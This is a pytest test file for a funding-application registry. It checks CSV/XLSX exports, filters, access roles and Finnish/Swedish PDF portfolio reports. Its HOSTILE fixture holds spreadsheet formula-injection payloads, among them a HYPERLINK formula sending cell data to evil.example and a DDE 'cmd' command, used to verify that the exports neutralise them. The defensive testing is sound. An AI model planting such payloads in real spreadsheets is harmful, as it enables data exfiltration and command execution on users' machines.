"""Exports: the applications with their review summaries as CSV and XLSX (the list's filters, formula-safe, read
back) and the portfolio report PDF (filters, table, page X of Y, Helsinki time) in Finnish and Swedish."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from registry.applications import criteria
from registry.applications.models import Review, ReviewScore
from registry.core.models import utcnow
from registry.extensions import db
from registry.i18n import today as helsinki_today
from tests.conftest import post

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+SUM(1,2)", "-1+1", "@cmd|' /C calc'!A0",
           "\tSarkain"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def _review(app: Any, application_id: int, reviewer_id: int, pick: Any, *, submitted: bool = True) -> None:
    """A review against the current criteria; `pick(criterion)` gives each score."""
    with app.app_context():
        version = criteria.current_version()
        review = Review(application_id=application_id, reviewer_id=reviewer_id, criteria_version_id=version.id,
                        submitted_at=utcnow() if submitted else None)
        review.scores = [ReviewScore(criterion_id=c.id, score=pick(c)) for c in version.criteria]
        db.session.add(review)
        db.session.commit()


@pytest.fixture
def listed(make_application, make_user):
    """Applications in several states; one reviewed by three reviewers (two give every criterion the top score,
    one the lowest) and one with a draft review; several with hostile organisation names."""
    ids = {
        "reviewed": make_application("Asumispolku", status="statement_given", statement="favourable",
                                     organisation_name="Kotipolku ry", business_id="1572860-0"),
        "company": make_application("Henkilöstöpalvelut", applicant_form="company", funder="esr",
                                    organisation_name="Vartija Oy", business_id=None),
        "draft": make_application("Päihteetön arki", status="in_review", organisation_name="Kivijalka ry"),
    }
    for n, name in enumerate(HOSTILE):
        ids[f"hostile{n}"] = make_application(f"Vihamielinen {n}", organisation_name=name, status="rejected")
    reviewers = [make_user("working_group") for _ in range(3)]
    return {"ids": ids, "reviewers": reviewers}


def _score_reviews(app, listed) -> None:
    ids, reviewers = listed["ids"], listed["reviewers"]
    _review(app, ids["reviewed"], reviewers[0].id, lambda c: c.scale_max)
    _review(app, ids["reviewed"], reviewers[1].id, lambda c: c.scale_max)
    _review(app, ids["reviewed"], reviewers[2].id, lambda c: c.scale_min)
    _review(app, ids["draft"], reviewers[0].id, lambda c: c.scale_max, submitted=False)


def test_csv_has_the_review_summary_honours_the_filters_and_runs_no_formulas(app, listed, client_as):
    _score_reviews(app, listed)
    client = client_as("working_group")
    post(client, "/language", {"lang": "en"})
    response = client.get("/applications/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="applications-')
    rows = _csv(response.get_data())
    assert rows[0] == ["Reference", "Received", "Organisation", "Business ID", "Project", "Funder", "Status",
                       "Checks", "Submitted reviews", "Weighted total (0–100)", "Statement"]
    assert len(rows) == 1 + len(listed["ids"])
    by_project = {r[4]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    reviewed = by_project["Asumispolku"]
    # Hand calculation: every criterion's mean is (5 + 5 + 0) / 3 of a 0–5 scale, i.e. 2/3 of it, whatever the
    # weights: the normalised weighted total is 100 × 2/3.
    assert reviewed["Submitted reviews"] == "3" and reviewed["Weighted total (0–100)"] == "66.67"
    assert reviewed["Statement"] == "Favourable" and reviewed["Checks"] == "Eligible"
    assert reviewed["Business ID"] == "1572860-0" and reviewed["Status"] == "Statement given"
    today = helsinki_today()
    assert reviewed["Received"] == f"{today.day}.{today.month}.{today.year}"
    assert by_project["Päihteetön arki"]["Submitted reviews"] == "0"  # a draft does not count
    assert by_project["Päihteetön arki"]["Weighted total (0–100)"] == ""
    company = by_project["Henkilöstöpalvelut"]
    assert company["Checks"] == "Not eligible" and company["Funder"] == "European Social Fund (ESR)"
    organisations = [r[2] for r in rows[1:]]
    for value in HOSTILE:
        assert "'" + value in organisations, value
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA) and not cell.lstrip(" ").startswith(FORMULA), cell

    only = _csv(client.get("/applications/export.csv?status=statement_given").get_data())
    assert [r[4] for r in only[1:]] == ["Asumispolku"]
    assert [r[4] for r in _csv(client.get("/applications/export.csv?funder=esr").get_data())[1:]] == \
        ["Henkilöstöpalvelut"]
    assert [r[4] for r in _csv(client.get("/applications/export.csv?q=kivijalka").get_data())[1:]] == \
        ["Päihteetön arki"]
    assert len(_csv(client.get("/applications/export.csv?status=bogus").get_data())) == 1  # the header only

    post(client, "/language", {"lang": "fi"})  # Finnish numbers have a decimal comma
    fi = _csv(client.get("/applications/export.csv?status=statement_given").get_data())
    assert "66,67" in fi[1]


def test_xlsx_opens_and_has_only_string_cells(app, listed, client_as):
    _score_reviews(app, listed)
    client = client_as("working_group")
    post(client, "/language", {"lang": "en"})
    response = client.get("/applications/export.xlsx?status=rejected")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    data = response.get_data()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Reference" and len(values) == 1 + len(HOSTILE)
    assert {row[2] for row in values[1:]} == set(HOSTILE)
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)
    full = load_workbook(io.BytesIO(client.get("/applications/export.xlsx").get_data())).active
    reviewed = next(row for row in full.iter_rows(values_only=True) if row[4] == "Asumispolku")
    assert reviewed[8] == "3" and reviewed[9] == "66.67"


def test_exports_are_for_the_working_group_only(app, listed, client_as):
    for roles in (("staff",), ("admin",), ("director",), ("coordinator",)):
        client = client_as(*roles)
        assert client.get("/applications/export.csv").status_code == 403, roles
        assert client.get("/applications/export.xlsx").status_code == 403, roles


# --- the portfolio report -----------------------------------------------------------------------------


def _pdf_text(data: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(data))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_portfolio_report_reads_correctly_in_finnish_and_swedish(app, make_project, make_user, client_as, lang):
    today = helsinki_today()
    person = make_user("staff", name="Åsa Hämäläinen")
    make_project("Päihdekuntoutuksen jatkumo Hämeenlinnasta", responsible_id=person.id,
                 starts_on=today - timedelta(days=300), ends_on=today + timedelta(days=400),
                 next_follow_up_on=today - timedelta(days=20), unit="HAMV")
    make_project("Språkstöd för frigivna i Österbotten", funder="esr", unit="VAAV", status="planned",
                 next_follow_up_on=today + timedelta(days=200))
    make_project("Turun hanke", unit="TURV", funder="other")
    client = client_as("staff")
    post(client, "/language", {"lang": lang})
    response = client.get("/portfolio/report.pdf?centre=ESRSK")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="project-portfolio-')
    reader, text = _pdf_text(response.get_data())
    flat = " ".join(text.split())
    assert "Päihdekuntoutuksen jatkumo Hämeenlinnasta" in flat and "Åsa Hämäläinen" in flat
    assert "Språkstöd" not in flat and "Turun hanke" not in flat  # another centre's projects
    due = today - timedelta(days=20)
    assert f"{due.day}.{due.month}.{due.year}" in flat
    if lang == "fi":
        assert "Sivu 1/1" in flat and "Rajaukset:" in flat and "Laadittu" in flat and "(Suomen aikaa)" in flat
        assert "Hämeenlinnan vankila" in flat and "Etelä-Suomen rikosseuraamuskeskus" in flat
    else:
        assert "Sida 1 av 1" in flat and "Filter:" in flat and "Skapad" in flat and "(finsk tid)" in flat
        assert "Tavastehus fängelse" in flat and "Brottspåföljdscentralen i Södra Finland" in flat
    fonts = {str(font.get_object()["/BaseFont"]) for page in reader.pages
             for font in page["/Resources"]["/Font"].values()}
    assert fonts and all("DejaVu" in name for name in fonts), fonts

    everything = _pdf_text(client.get("/portfolio/report.pdf").get_data())[1]
    assert "Språkstöd för frigivna i Österbotten" in " ".join(everything.split())


def test_a_long_report_numbers_its_pages(app, make_project, client_as):
    for n in range(70):
        make_project(f"Hanke numero {n:02d} – pitkä nimi, jotta rivejä tulee useita sivuja varten", unit="HELV")
    client = client_as("staff")
    post(client, "/language", {"lang": "fi"})
    reader, text = _pdf_text(client.get("/portfolio/report.pdf").get_data())
    pages = len(reader.pages)
    assert pages >= 2
    assert f"Sivu 1/{pages}" in text and f"Sivu {pages}/{pages}" in text
    assert "Hanke numero 00" in text and "Hanke numero 69" in text
    with app.app_context():
        from registry.applications.models import Project

        assert len(db.session.scalars(select(Project.id)).all()) == 70
